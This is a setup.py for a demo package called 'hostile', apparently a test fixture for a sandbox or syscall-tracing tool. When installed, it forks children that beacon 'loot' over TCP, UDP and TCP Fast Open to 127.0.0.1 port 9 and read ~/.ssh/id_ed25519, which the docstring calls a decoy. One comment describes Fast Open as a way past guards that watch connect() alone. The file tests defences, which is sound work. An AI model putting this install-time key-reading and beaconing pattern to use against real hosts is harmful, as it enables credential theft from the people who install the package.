# SPDX-License-Identifier: Apache-2.0
"""The demo's hostile package. It does what the PyPI campaigns do first, and is inert: nobody listens on port 9 of this
machine, and the key that it reads is a decoy.

Each move is made in a child of its own, because the backend `trace` ends the process that makes it. What came of it is
printed as `hostile: MOVE: OUTCOME` for dist/demo, which looks at it. Errors are swallowed, as such packages do.
"""
import os
import signal
import socket
import sys

from setuptools import setup

LOOT = b"hostname, user, environment"


def tcp_connect():
    with socket.socket() as beacon:
        beacon.connect(("127.0.0.1", 9))


def udp_sendto():
    with socket.socket(type=socket.SOCK_DGRAM) as beacon:
        beacon.sendto(LOOT, ("127.0.0.1", 9))


def tcp_fast_open():
    # Connects and sends in one call, past any guard that watches connect() alone.
    with socket.socket() as beacon:
        beacon.sendto(LOOT, socket.MSG_FASTOPEN, ("127.0.0.1", 9))


def read_key():
    with open(os.path.expanduser("~/.ssh/id_ed25519"), encoding="ascii") as key:
        key.read()


def outcome(move):
    try:
        move()
    except ConnectionRefusedError:
        return "went out"  # the kernel asked the port and nobody was there: the packet left
    except OSError as error:
        return f"refused ({error.strerror})"
    return "succeeded"


def in_child(move):
    child = os.fork()
    if not child:
        result = outcome(move)
        # Whoever is ended after the effect cannot tell; so this line proves that the effect could be used.
        os.write(1, f"hostile: {move.__name__}: {result}\n".encode())
        os._exit(0)
    status = os.waitpid(child, 0)[1]
    if os.WIFSIGNALED(status):
        name = signal.Signals(os.WTERMSIG(status)).name
        os.write(1, f"hostile: {move.__name__}: ended by {name}\n".encode())


# setup.py runs several times in an install, this command once.
if "dist_info" in sys.argv:
    for attempt in (tcp_connect, udp_sendto, tcp_fast_open, read_key):
        in_child(attempt)

setup(name="hostile", version="1.0", py_modules=[])
